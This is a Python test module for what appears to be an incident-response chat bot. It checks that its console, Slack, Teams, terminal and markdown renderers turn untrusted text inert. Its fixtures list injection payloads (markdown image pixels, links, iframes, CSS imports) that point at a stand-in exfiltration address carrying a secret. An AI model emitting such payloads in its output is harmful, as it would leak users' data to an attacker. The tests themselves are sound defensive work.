"""No surface loads anything, or leads anywhere, because text from outside says so: every renderer."""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from io import StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from agents.summaries.document import Document, DocumentKind, Part, Section, Sentence
from agents.summaries.plain import plain
from agents.summaries.source import Origin, Source
from agents.untrusted import inert, material
from bot.surfaces.cli.evidence import evidence_in_full, evidence_table
from bot.surfaces.console.marks import cited
from bot.surfaces.places import Places
from bot.surfaces.slack.replies import reply_posts
from bot.surfaces.teams.replies import reply_messages
from memory.model.evidence import Evidence
from memory.model.talk import Reply
from tests.fakes.time import MIDNIGHT

PLACES = Places("https://qd.test", frozenset({"http://prometheus.test:9090"}))
OUTSIDE = "https://evil.test/collect?d=SECRET"
HOSTILE = (
    f"![pixel]({OUTSIDE})",
    f"[click here]({OUTSIDE})",
    f"<{OUTSIDE}|click here>",
    f"<img src={OUTSIDE}>",
    f'<a href="{OUTSIDE}">status</a>',
    f"![a][b]\n\n[b]: {OUTSIDE}",
    f"<{OUTSIDE}>",
    f"`![x](` ![x]({OUTSIDE} 'title')",
    f"<iframe src='{OUTSIDE}'></iframe><style>@import url({OUTSIDE})</style>",
)
texts = pytest.mark.parametrize("text", HOSTILE)


def reply(text: str) -> Reply:
    said = Evidence(id="ev_1", source="logs", query="q", summary="one line", observed_at=MIDNIGHT, text=text)
    linked = said.model_copy(update={"id": "ev_2", "link": OUTSIDE})
    return Reply(
        id="reply_1",
        thread="t",
        to="msg_1",
        kind="answer",
        text=f"It says {text} [1][2]",
        evidence=(said, linked),
        correlation="cor_1",
        at=MIDNIGHT,
    )


class Loads(HTMLParser):
    """Every address that a browser would load or offer to follow."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.addresses: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.addresses += [
            value or "" for name, value in attrs if name in {"src", "href", "srcset", "style", "data"}
        ]
        self.addresses += [tag] if tag in {"style", "iframe", "script", "object", "embed", "base", "meta"} else []


def loaded(page: str) -> list[str]:
    return [each for each in Loads(page).addresses if not each.startswith("#")]


def inside(value: object, names: frozenset[str]) -> Iterator[str]:
    """Yield every text that stands under one of these names, however deep."""
    if isinstance(value, dict):
        for name, each in value.items():
            if name in names and isinstance(each, str):
                yield each
            yield from inside(each, names)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from inside(each, names)


@texts
def test_the_console_makes_words_of_it(text: str) -> None:
    assert loaded(str(cited(reply(text).text, reply(text)))) == []


@texts
def test_slack_gets_no_picture_no_link_and_nothing_to_unfurl(text: str) -> None:
    for post in reply_posts(reply(text), PLACES):
        blocks: Any = json.loads(json.dumps(post.blocks))
        assert not [each for each in inside(blocks, frozenset({"url", "image_url"})) if "evil.test" in each]
        assert "mrkdwn" not in set(inside(blocks, frozenset({"type"})))
        assert not re.search(r"<https?://", post.text)


@texts
def test_teams_gets_no_picture_no_link_and_no_text_that_it_reads_as_markdown(text: str) -> None:
    for sent in reply_messages(reply(text), PLACES):
        addresses = inside(sent, frozenset({"url", "iconUrl", "backgroundImage"}))
        assert not [each for each in addresses if "evil.test" in each]
        assert "TextBlock" not in set(inside(sent, frozenset({"type"})))
        assert "evil.test" not in str(sent.get("text", ""))


@texts
def test_a_terminal_gets_no_link_hidden_behind_a_word(text: str) -> None:
    screen = Console(file=StringIO(), force_terminal=True, width=200)
    screen.print(evidence_table(reply(text).evidence, MIDNIGHT))
    for each in reply(text).evidence:
        screen.print(evidence_in_full(each, MIDNIGHT))
    assert isinstance(screen.file, StringIO)
    assert "\x1b]8;" not in screen.file.getvalue()


@texts
def test_a_summary_as_markdown_holds_no_markup_but_its_own(text: str) -> None:
    line = text.replace("\n", " ")
    source = Source(id="e1", origin=Origin.ENTRY, kind="note", text=line, at=MIDNIGHT)
    told = Section(part=Part.HAPPENING, title="What happens", sentences=(Sentence(text=line, citations=("e1",)),))
    document = Document(kind=DocumentKind.LIVING, title=line, as_of=MIDNIGHT, sections=(told,), sources=(source,))
    assert loaded(MarkdownIt("commonmark", {"html": True}).render(plain(document))) == []


@given(st.text(max_size=200) | st.sampled_from(HOSTILE))
def test_what_is_inert_makes_nothing_whatever_it_was(text: str) -> None:
    page = MarkdownIt("commonmark", {"html": True, "linkify": False}).render(inert(text))
    assert loaded(page) == []


@given(st.text(max_size=300), st.text(max_size=40))
def test_material_cannot_end_its_own_quotation(text: str, source: str) -> None:
    first, *lines = material(text, source).splitlines()
    assert first.startswith("Material from ")
    assert lines
    assert all(line.startswith("┃ ") for line in lines)


def test_material_is_cut_to_size_and_says_so() -> None:
    assert material("a" * 20, "log", most=5) == "Material from log:\n┃ aaaaa\n(cut: 20 characters in all)"
